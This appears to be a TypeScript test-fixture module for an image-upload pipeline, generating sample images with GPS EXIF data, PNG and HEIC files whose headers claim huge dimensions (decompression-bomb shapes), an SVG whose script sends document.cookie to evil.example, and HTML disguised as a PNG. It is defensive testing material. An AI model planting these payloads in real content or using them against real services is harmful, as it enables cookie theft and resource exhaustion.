import { readFileSync } from 'node:fs';
import { crc32, deflateSync } from 'node:zlib';
import sharp from 'sharp';

/** A small photo-like image (a gradient, so encoders have something to keep) in the given format. */
export async function sampleImage(
  format: 'jpeg' | 'png' | 'webp' | 'gif',
  width = 64,
  height = 48,
  options: { readonly orientation?: number; readonly gps?: boolean } = {},
): Promise<Buffer> {
  const pixels = Buffer.alloc(width * height * 3);
  for (let y = 0; y < height; y += 1) {
    for (let x = 0; x < width; x += 1) {
      const at = (y * width + x) * 3;
      pixels[at] = Math.round((x / width) * 255);
      pixels[at + 1] = Math.round((y / height) * 255);
      pixels[at + 2] = 128;
    }
  }
  let image = sharp(pixels, { raw: { width, height, channels: 3 } });
  if (options.gps) {
    image = image.withExif({
      IFD0: { Make: 'TestCam', Model: 'Spy 1' },
      IFD3: {
        GPSLatitudeRef: 'N',
        GPSLatitude: '51/1 28/1 4000/100',
        GPSLongitudeRef: 'W',
        GPSLongitude: '0/1 0/1 500/100',
      },
    });
  }
  if (options.orientation !== undefined) image = image.withMetadata({ orientation: options.orientation });
  return image.toFormat(format).toBuffer();
}

/** A PNG whose header claims `width` × `height` pixels, with one tiny compressed row: a decompression bomb's shape. */
export function pngClaiming(width: number, height: number): Buffer {
  const chunk = (type: string, data: Buffer): Buffer => {
    const length = Buffer.alloc(4);
    length.writeUInt32BE(data.length);
    const body = Buffer.concat([Buffer.from(type, 'ascii'), data]);
    const crc = Buffer.alloc(4);
    crc.writeUInt32BE(crc32(body));
    return Buffer.concat([length, body, crc]);
  };
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header[8] = 8; // bit depth
  header[9] = 2; // truecolour
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    chunk('IHDR', header),
    chunk('IDAT', deflateSync(Buffer.alloc(1 + width * 3))),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

export const svgWithScript = Buffer.from(
  '<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10" onload="alert(1)">' +
    '<script>fetch("https://evil.example/?" + document.cookie)</script><rect width="10" height="10"/></svg>',
);

export const htmlNamedPng = Buffer.from('<!DOCTYPE html><html><body><script>alert(1)</script></body></html>');

/** A real HEVC-coded HEIC from tests/fixtures/heic (see the README there for what each holds). */
export function heicFixture(name: 'pattern' | 'rotated-gps' | 'transparent'): Buffer {
  return readFileSync(new URL(`../../../fixtures/heic/${name}.heic`, import.meta.url));
}

/** pattern.heic with its primary image's size box (`ispe`) claiming `width` × `height`: a bomb's shape. */
export function heicClaiming(width: number, height: number): Buffer {
  const bytes = Buffer.from(heicFixture('pattern'));
  const primary = Buffer.from([...Buffer.from('ispe'), 0, 0, 0, 0, 0, 0, 0, 64, 0, 0, 0, 48]);
  const at = bytes.indexOf(primary);
  if (at < 0 || bytes.indexOf(primary, at + 1) >= 0) throw new Error('pattern.heic has no single 64 × 48 ispe box');
  bytes.writeUInt32BE(width, at + 8);
  bytes.writeUInt32BE(height, at + 12);
  return bytes;
}
